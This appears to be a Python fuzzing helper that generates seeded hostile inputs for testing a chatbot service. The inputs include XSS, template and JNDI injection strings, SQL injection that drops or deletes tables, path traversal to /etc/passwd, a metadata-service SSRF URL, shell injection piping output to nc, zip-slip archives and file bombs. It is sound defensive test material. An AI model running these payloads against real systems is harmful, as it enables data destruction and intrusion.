"""What people send who mean harm, from a seed: texts, JSON, files. Each text carries a marker."""

from __future__ import annotations

import json
import string
from functools import cache
from random import Random
from typing import Any

from tests.bot import files

MARK = "kanari7f3"
PRODUCT = "1349033"  # of 1337 and 1009: what a template would make of them
SCRIPTS = (
    "<script>{mark}()</script>",
    "<{mark}>",
    '"><img src=x onerror={mark}()>',
    "'><svg/onload={mark}()>",
    "javascript:{mark}()",
    "</textarea><script src=//{mark}.example></script>",
    "<!--{mark}--><iframe srcdoc='<script>{mark}()</script>'>",
    '" autofocus onfocus={mark}() x="',
    "]]><{mark}/><![CDATA[",
)
TEMPLATES = (
    "{{{{1337*1009}}}}{mark}",
    "{{% if 1 %}}{{{{1337*1009}}}}{{% endif %}}{mark}",
    "${{1337*1009}}{mark}",
    "#{{1337*1009}}{mark}",
    "{{0.__class__.__mro__}}{mark}",
    "%(mark)s%s%n%x{mark}",
    "${{jndi:ldap://{mark}.example/a}}",
)
COMMANDS = (
    "'; DROP TABLE conversation; -- {mark}",
    "' OR '1'='1' /* {mark} */",
    "1); DELETE FROM mediation_case; -- {mark}",
    "../../../../../../etc/passwd{mark}",
    "..\\..\\windows\\{mark}",
    "file:///etc/passwd?{mark}",
    "http://169.254.169.254/latest/{mark}",
    "$(touch /tmp/{mark})",
    "`id` | nc {mark} 1 &",
    "x\r\nSet-Cookie: {mark}=1\r\n\r\n<{mark}>",
    "*)(uid=*))(|(uid={mark}",
)
ODD = (
    "\x00{mark}\x00",
    "\x1b[2J\x1b]0;{mark}\x07\x08\x7f",
    "\ud800{mark}\udfff",
    "\u202e{mark}\u202d\u2066\u2069",
    "\u200b\u200c\u200d\ufeff{mark}\u2060",
    "\ufffe\uffff{mark}\U0010ffff",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d{mark}",
    "{mark}é\u0301\u1100\u1161\u11a8",
    "\x85\u2028\u2029{mark}\v\f",
)
NUMBERS = (
    *("-1", "0", "1e309", "NaN", "-Infinity", "0x7f", "１２３４", "٣٤٥", "²", "1_000", "+5", " 7 "),
    *("9223372036854775807", "9223372036854775808", "340282366920938463463374607431768211456"),
)
DATES = (
    *(
        "9999-12-31",
        "0000-00-00",
        "2026-02-30",
        "99999-01-01",
        "-0001-01-01",
        "二零九九年二月三十号",
    ),
    *(
        "腊月三十一",
        "99999999年前",
        "公元前二十一年的明天",
        "下下下下下下周八",
        "25:61",
        "去年的去年的去年" * 50,
    ),
)
STORIES = (
    *(
        "老板欠我三万五工钱",
        "隔壁占了我家的地",
        "他打我，我现在很害怕",
        "我叫王{mark}，电话13812345678",
    ),
    *(
        "欠我一亿亿亿亿亿亿元",
        "三千" * 400,
        "1" * 4_000,
        "十" * 3_900,
        "零点" * 1_500 + "五",
        "亿" * 3_999,
    ),
    *("(" * 2_000, "，。" * 1_900, "年月日" * 1_200, "1.1.1.1." * 450, "  " * 1_900 + "钱"),
)
EMOJI = ("👨‍👩‍👧‍👦", "🏳️‍🌈", "🇨🇳", "👍🏿", "☎️")
LARGE = (4_001, 16_500, 70_000, 1_200_000)  # characters
RISKS = (SCRIPTS, TEMPLATES, COMMANDS, ODD, NUMBERS, DATES, STORIES)


class Payloads:
    """Makes one thing after the other; the same seed makes the same."""

    def __init__(self, seed: int) -> None:
        self.random = Random(seed)

    def text(self) -> str:
        """A hostile text of up to some thousand characters, now and then far too long."""
        kind = self.random.random()
        if kind < 0.02:
            return "长" * self.random.choice(LARGE)
        if kind < 0.06:
            return self.random.choice(EMOJI) * self.random.randint(1, 900) + MARK
        if kind < 0.16:
            return self._mixture()
        if kind < 0.20:
            return self.random.choice(("", " ", "\t\n", "\u3000"))
        told = self.random.choice(self.random.choice(RISKS))
        return told.format(mark=MARK) if "{" in told else told

    def _mixture(self) -> str:
        pieces = [self.text() for _ in range(self.random.randint(2, 4))]
        noise = "".join(
            chr(
                self.random.choice((0, 9, 10, 32, 47, 60, 0x4E00, 0xD800, 0x1F600))
                + self.random.randint(0, 40)
            )
            for _ in range(self.random.randint(0, 30))
        )
        return noise.join(pieces)[:6_000]

    def word(self) -> str:
        """A hostile text short enough for a path, a query or a header."""
        return self.text()[:300]

    def raw(self) -> bytes:
        """Bytes in one charset or another, or in none."""
        kind = self.random.random()
        if kind < 0.7:
            return self.text().encode("utf-8", "surrogatepass")
        if kind < 0.9:
            codec = self.random.choice(("utf-16", "utf-32", "gb18030", "big5", "utf-7", "cp037"))
            return self.text().encode(codec, "replace")
        return self.random.randbytes(self.random.randint(0, 3_000))

    def value(self, depth: int = 0) -> Any:
        """Anything that JSON can hold."""
        kind = self.random.randint(0, 9 if depth < 4 else 6)
        if kind < 4:
            return self.text()
        if kind == 4:
            return self.random.choice((None, True, False, [], {}))
        if kind == 5:
            return self.random.choice((0, -1, 2**31, 2**63, 2**64, -(2**63), 10**400, 1.5, 1e308))
        if kind == 6:
            return float(self.random.choice(("nan", "inf", "-inf")))
        count = self.random.randint(0, 4)
        if kind == 7:
            return [self.value(depth + 1) for _ in range(count)]
        return {self.word(): self.value(depth + 1) for _ in range(count)}

    def json(self, value: Any) -> bytes:
        """JSON, here and there broken, far too deep, or in another charset."""
        kind = self.random.random()
        if kind < 0.03:
            return b"[" * 50_000
        if kind < 0.06:
            return b'{"a":' * 3_000 + b"1" + b"}" * 3_000
        if kind < 0.08:
            return b'{"id": 1' + b"0" * 6_000 + b"}"
        made = json.dumps(value, ensure_ascii=self.random.random() < 0.5)
        data = made.encode("utf-8", "surrogatepass")
        if kind < 0.13:
            return data[: self.random.randint(0, len(data))]
        if kind < 0.16:
            return made.encode(self.random.choice(("utf-16", "utf-32")), "surrogatepass")
        return data

    def file(self) -> bytes:
        """A file as nobody should send it."""
        made = self.random.choice(hostile_files())
        kind = self.random.random()
        if kind < 0.2:
            return made[: self.random.randint(0, len(made))]
        if kind < 0.3:
            place = self.random.randint(0, len(made))
            return made[:place] + self.random.randbytes(20) + made[place:]
        return made

    def name(self, letters: str = string.ascii_letters + string.digits, length: int = 16) -> str:
        """A random name of plain letters."""
        return "".join(self.random.choices(letters, k=length))


@cache
def hostile_files() -> tuple[bytes, ...]:
    """Bombs, loops, polyglots, pages with scripts, programs, and honest photos."""
    script = f"<script>{MARK}()</script>".encode()
    photo = files.photo()
    return (
        *(photo, files.paper(), files.opus(), files.amr(), files.mp3(), files.m4a()),
        *(photo + script, photo + files.zipped(), b"GIF89a/*" + script + b"*/=1;"),
        *(script, b"<svg xmlns='http://www.w3.org/2000/svg' onload='a()'>" + script + b"</svg>"),
        *(b"%PDF-1.7\n" + photo, b"\xff\xd8\xff" + script, b"RIFF\0\0\0\0WEBP" + script, b""),
        *(files.zipped("../../../etc/cron.d/a"), files.zipped("b", b"\0" * 5_000_000)),
        *(files.huge_png(60_000, 60_000), files.text_bomb_png(), files.nested_pdf()),
        *(files.looping_pdf(), files.many_pages_pdf(), files.locked_paper()),
        *(b"\x7fELF" + b"\0" * 200, b"MZ" + b"\0" * 200, b"#!/bin/sh\ntouch /tmp/" + MARK.encode()),
        *(b"PK\x03\x04" * 1_000, b"\0" * 10_500_000, b"OggS" * 10_000, b"ID3" + b"\x7f" * 4_000),
    )
